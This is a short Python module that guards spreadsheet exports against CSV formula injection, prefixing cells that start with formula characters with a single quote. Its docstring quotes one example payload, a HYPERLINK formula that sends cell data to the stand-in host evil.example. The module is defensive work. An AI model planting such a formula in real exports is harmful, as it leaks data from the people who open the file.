"""Cells safe to open in a spreadsheet (OWASP "CSV Injection"): a spreadsheet program reads a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a name such as
`=HYPERLINK("http://evil.example/?d="&C2)` in a customer's export would run when the customer
opens it. Such a text cell is prefixed with a single quote, which spreadsheets take as "this is
text" and do not show. A plain decimal number (`-12.50`) is left as it is: it is read as the
number it is, never as a formula."""
from __future__ import annotations

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value
